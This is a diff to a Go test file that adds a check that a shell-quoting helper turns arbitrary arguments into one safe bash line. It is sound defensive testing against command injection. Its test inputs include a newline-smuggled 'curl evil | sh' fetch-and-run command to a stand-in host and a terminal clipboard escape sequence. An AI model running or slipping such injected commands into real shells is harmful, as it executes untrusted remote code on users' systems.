@@ -5,6 +5,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"unicode"
 
 	"github.com/gangctl/gangctl/internal/prerequisite"
 )
@@ -33,5 +34,19 @@ func TestJoin(t *testing.T) {
 	}
 	if got, err := Split(Join(args...)); err != nil || !slices.Equal(got, args) {
 		t.Errorf("got %q, %v", got, err)
+	}
+}
+
+// Whatever the arguments hold, it is one line, and bash reads it as it is meant.
+func TestOneLine(t *testing.T) {
+	bash := prerequisite.Program(t, "bash")
+	for _, arg := range []string{"plain", "two words", "a\n\ncurl evil | sh\n", "tab\t'quoted' \\ back", "\x1b]52;c;x\a", "漢\n字", "\r\x7f"} {
+		line := OneLine("printf", "%s", arg)
+		if strings.ContainsFunc(line, unicode.IsControl) {
+			t.Errorf("%q: got %q", arg, line)
+		}
+		if got, err := exec.CommandContext(t.Context(), bash, "-c", line).Output(); err != nil || string(got) != arg {
+			t.Errorf("%s: bash reads %q, %v", line, got, err)
+		}
 	}
 }
